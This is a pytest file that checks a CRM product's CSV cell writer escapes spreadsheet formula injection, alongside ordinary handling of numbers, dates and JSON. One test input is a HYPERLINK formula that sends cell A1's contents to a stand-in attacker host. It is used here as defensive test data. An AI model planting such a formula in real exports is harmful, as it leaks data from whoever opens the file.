"""The cells of every CSV the product writes (the API's and the CLI's)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest

from crm_perf_sync.kit.csvout import cell


def written(value: Any) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([cell(value)])
    return buffer.getvalue().removesuffix("\r\n")


@pytest.mark.parametrize(
    ("value", "line"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1;"Moses")',
            '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""Moses"")"',
        ),
        ("=1+2", "'=1+2"),
        ("+49 30 123", "'+49 30 123"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", '"\'\r=cmd"'),
        ("Moses Frase", "Moses Frase"),
        ("a=b", "a=b"),
        ("", '""'),  # a row of one empty cell, as the csv module writes it
        (None, '""'),
        (-5, "-5"),  # a number is data, never a formula
        (-5.25, "-5.25"),
        (Decimal("-1200.50"), "-1200.50"),
        (0.1, "0.1"),
        (True, "true"),
        (False, "false"),
        (date(2026, 3, 31), "2026-03-31"),
        (datetime(2026, 3, 31, 12, 0, tzinfo=UTC), "2026-03-31T12:00:00+00:00"),
        ({"name": "=1+2"}, '"{""name"":""=1+2""}"'),  # JSON text starts with { or [
        (["-1"], '"[""-1""]"'),
    ],
)
def test_a_cell_is_written_so_no_spreadsheet_runs_it(value: Any, line: str) -> None:
    assert written(value) == line
